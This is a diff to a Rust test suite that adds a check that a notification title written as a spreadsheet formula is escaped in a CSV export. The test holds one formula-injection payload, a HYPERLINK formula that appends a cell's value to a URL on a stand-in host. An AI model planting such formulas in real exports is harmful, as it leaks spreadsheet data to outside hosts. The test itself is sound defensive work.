@@ -29,6 +29,7 @@ use crate::support::smtp_receiver::Stage;
 on_both_engines! {
     the_file_holds_everything_that_was_chosen_and_told,
     the_notifications_come_as_a_table_too,
+    a_title_is_no_formula_of_a_spreadsheet,
     nobody_reads_it_without_being_signed_in,
     erasing_is_asked_first_and_signs_out,
     nothing_personal_is_left_after_erasing,
@@ -115,6 +116,17 @@ async fn the_notifications_come_as_a_table_too(app: &TestApp) {
     );
     let titles: Vec<String> = table.records().map(|row| row.unwrap()[0].to_owned()).collect();
     assert_eq!(titles, ["Orti di quartiere", "Bando \"Sole\", terza edizione"]);
+}
+
+async fn a_title_is_no_formula_of_a_spreadsheet(app: &TestApp) {
+    let mut reader = Reader::of_person(app, &a_citizen()).await;
+    let formula = "=HYPERLINK(\"http://example.org/?\"&A2, \"Leggi\")";
+    app.publish(&a_call().titled(formula)).await;
+    app.run_jobs().await;
+    let answer = reader.open("/preferenze/avvisi.csv").await;
+    let mut table = csv::Reader::from_reader(answer.text.as_bytes());
+    let row = table.records().next().unwrap().unwrap();
+    assert_eq!(row[0], format!("'{formula}"), "it is shown and not calculated");
 }
 
 async fn nobody_reads_it_without_being_signed_in(app: &TestApp) {
